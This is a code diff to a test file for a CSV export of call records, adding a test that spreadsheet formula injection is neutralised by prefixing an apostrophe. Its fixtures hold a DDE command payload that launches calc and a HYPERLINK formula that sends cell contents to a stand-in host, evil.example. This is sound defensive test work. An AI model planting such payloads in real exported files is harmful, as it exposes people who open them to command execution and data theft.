@@ -25,7 +25,18 @@ describe('export document', () => {
     const line = csvLine(exportDocument(row, { analysis: undefined, evaluations: [], labels: ['a', 'b'], recordingUrl: null }))
     expect(line.endsWith('\r\n')).toBe(true)
     expect(line).toContain('"[{""role"":""user"",""text"":""hi, \\""there\\"""",""timestamp"":1.5}]"')
-    expect(line).toContain(',a;b,')
-    expect(line.startsWith('call_1,agent_1,Reception (at call time),outbound,+14155550100,+14155550123,completed,')).toBe(true)
+    expect(line).toContain(',"a;b",')
+    // text is quoted; a phone number's leading + is text a spreadsheet would evaluate, so it gets the '
+    expect(line.startsWith(`"call_1","agent_1","Reception (at call time)","outbound","'+14155550100","'+14155550123","completed",`)).toBe(true)
+  })
+
+  test('CSV neutralises formulas in every text cell and in each label, and keeps numbers as numbers', () => {
+    const formula = { ...row, agent_name: '@SUM(1+1)', metrics: JSON.stringify({ model: '=cmd|\' /C calc\'!A0', totalTokens: 7 }) }
+    const probe = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    const line = csvLine(exportDocument(formula, { analysis: undefined, evaluations: [], labels: ['ok', probe], recordingUrl: null }))
+    expect(line).toContain(`,"'@SUM(1+1)",`)
+    expect(line).toContain(`,"'=cmd|' /C calc'!A0",`)
+    expect(line).toContain(`,"ok;'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
+    expect(line).toContain(',7,')
   })
 })
